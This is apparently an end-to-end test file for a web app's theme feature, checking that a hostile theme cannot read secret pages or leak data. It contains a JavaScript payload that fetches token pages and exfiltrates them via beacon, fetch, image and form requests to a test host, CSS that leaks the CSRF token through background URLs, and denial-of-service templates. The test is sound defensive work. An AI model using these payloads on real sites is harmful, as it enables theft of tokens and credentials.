import { once } from 'node:events';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { DeclaredPages } from '../../src/web/kit/declared.js';
import { inBrowser, openPage, PATIENCE, signIn, startBrowser } from '../support/browser.js';
import { e2e, type TestUser } from '../support/service.js';
import { settles } from '../support/visitor.js';

/** What a theme's script finds out about a page that it must not read. */
interface Loot {
  fetched: number;
  framed: boolean;
  opened: boolean;
}

const script = (paths: string[], foreign: string): string => `
  window.loot = {};
  const send = (text) => {
    navigator.sendBeacon('${foreign}/beacon', text);
    fetch('${foreign}/fetch', { method: 'POST', mode: 'no-cors', body: text }).catch(() => {});
    new Image().src = '${foreign}/image';
  };
  send('hello');
  const within = (ms, step) => Promise.race([step, new Promise((done) => setTimeout(done, ms, false))]);
  const reads = (target) => {
    try { return target().document.querySelector('form input, h1') !== null; } catch { return false; }
  };
  (async () => {
    for (const path of ${JSON.stringify(paths)}) {
      const answer = await fetch(path, { headers: { Accept: 'text/html' } });
      if (answer.ok) send(await answer.text());
      const frame = document.createElement('iframe');
      frame.src = path;
      document.body.append(frame);
      await within(3000, new Promise((done) => { frame.onload = done; }));
      const framed = reads(() => frame.contentWindow);
      frame.remove();
      const other = window.open(path);
      await new Promise((done) => setTimeout(done, 700));
      const opened = reads(() => other);
      window.loot[path] = { fetched: answer.status, framed, opened };
    }
  })();
  const form = document.createElement('form');
  form.action = '${foreign}/form';
  form.target = '_blank';
  document.body.append(form);
  form.submit();`;

const style = (foreign: string): string => `
  @import url('${foreign}/import.css');
  @font-face { font-family: far; src: url('${foreign}/font.woff2'); }
  body { font-family: far; background: url('${foreign}/background.png'); }
  input[name=csrfmiddlewaretoken] ~ *, h1 { background: url('${foreign}/leak.png'); }`;

e2e('a hostile theme that everybody has', (service) => {
  inBrowser('in a browser', () => {
    let browser: Browser;
    let elsewhere: Server;
    let foreign: string;
    let user: TestUser;
    const asked: string[] = [];

    beforeAll(async () => {
      elsewhere = createServer((request, response) => {
        asked.push(`${request.method} ${request.url}`);
        response.end();
      }).listen(0, '127.0.0.1');
      await once(elsewhere, 'listening');
      foreign = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
      user = await service.administrator();
      browser = await startBrowser();
    }, PATIENCE);
    afterAll(async () => {
      await browser?.close();
      elsewhere?.close();
    });

    /** Gives the site's default theme a template, a style and a script, as they are. */
    async function apply(template: string | null, files: { css?: string; javascript?: string } = {}): Promise<void> {
      const folder = join(process.env.DATA_DIR!, 'media/themes');
      await mkdir(folder, { recursive: true });
      const addresses: Record<string, string> = { css: '', javascript: '' };
      for (const [kind, text] of Object.entries(files)) {
        const name = kind === 'css' ? 'hostile.css' : 'hostile.js';
        await writeFile(join(folder, name), text);
        addresses[kind] = `/media/themes/${name}`;
      }
      await service.sql('UPDATE theme SET template_string = ?, css = ?, javascript = ? WHERE is_default IS NOT NULL', [
        template,
        addresses.css,
        addresses.javascript,
      ]);
    }

    async function visit(path: string): Promise<Page> {
      const { page } = await openPage(browser, service.url, 1280);
      await signIn(page, service.url, user);
      await page.goto(service.url + path);
      return page;
    }

    /** Pages where secrets are typed or shown, without parameters. */
    const safePages = (): string[] =>
      service.app
        .get(DeclaredPages)
        .all()
        .filter(({ safe, path, name }) => safe && !path.includes(':') && !['login', 'password-link'].includes(name))
        .map(({ path }) => path);

    it.each([
      ['never ends', '{% for a in (1..100000) %}{% for b in (1..100000) %}{{ content }}{% endfor %}{% endfor %}'],
      [
        'fills the memory',
        '{% assign x = "0123456789" %}{% for a in (1..100) %}{% capture x %}{{ x }}{{ x }}{% endcapture %}{% endfor %}{{ x }}{{ content }}',
      ],
      ['leaves the content out', '<p>Nothing to be seen here.</p>'],
      ['shows the content twice', '{{ content }}{{ content }}'],
      ['hides the head', '<!doctype html><html lang="en"><body>{{ content }}</body></html>'],
      ['is broken', '{% for %}{{ content'],
    ])(
      'should do no harm when its template %s',
      async (_, template) => {
        await apply(template);
        const began = Date.now();
        const page = await visit('/mediabin/');
        expect(Date.now() - began).toBeLessThan(20_000);
        // The frame that is built in, and the page in it.
        expect(await page.locator('header.site nav.pages').count()).toBe(1);
        expect(await page.locator('h1').allInnerTexts()).toEqual(['Media bin']);
        expect(await page.getByText('Nothing to be seen here.').count()).toBe(0);
        await page.context().close();
      },
      PATIENCE,
    );

    it(
      'should not read what is secret, nor tell anybody, nor load anything from elsewhere',
      async () => {
        const paths = safePages();
        expect(paths).toContain('/profile/tokens/new/');
        await apply('<div id="theirs">{{ navigation }}{{ messages }}<main id="main">{{ content }}</main></div>', {
          css: style(foreign),
          javascript: script(paths, foreign),
        });
        const page = await visit('/mediabin/');
        await page.locator('#theirs').waitFor();
        const loot = (): Promise<Record<string, Loot>> => page.evaluate('window.loot');
        const nothing = { fetched: 403, framed: false, opened: false };
        await settles(loot, Object.fromEntries(paths.map((path) => [path, nothing])));
        expect(asked).toEqual([]);
        await page.context().close();
      },
      PATIENCE,
    );

    it(
      'should be on no page that is safe, and on none that is asked for in the safe look',
      async () => {
        await apply('<div id="theirs">{{ content }}</div>', { css: 'body { display: none }', javascript: 'loot = 1' });
        const page = await visit('/mediabin/');
        expect(await page.evaluate('[typeof loot, document.querySelector("#theirs") !== null]')).toEqual([
          'number',
          true,
        ]);
        for (const path of [...safePages(), '/mediabin/?safe-theme=1', '/?safe-theme=1']) {
          await page.goto(service.url + path);
          const traces = await page.evaluate(
            `[typeof loot, document.querySelectorAll('#theirs, [href*=hostile], [src*=hostile]').length,
              document.querySelector('h1').checkVisibility()]`,
          );
          expect([path, traces]).toEqual([path, ['undefined', 0, true]]);
        }
        await page.context().clearCookies();
        await page.goto(`${service.url}/login/`);
        expect(await page.evaluate('typeof loot')).toBe('undefined');
        expect(await page.getByRole('button', { name: 'Sign in' }).isVisible()).toBe(true);
        await page.context().close();
      },
      PATIENCE,
    );
  });
});
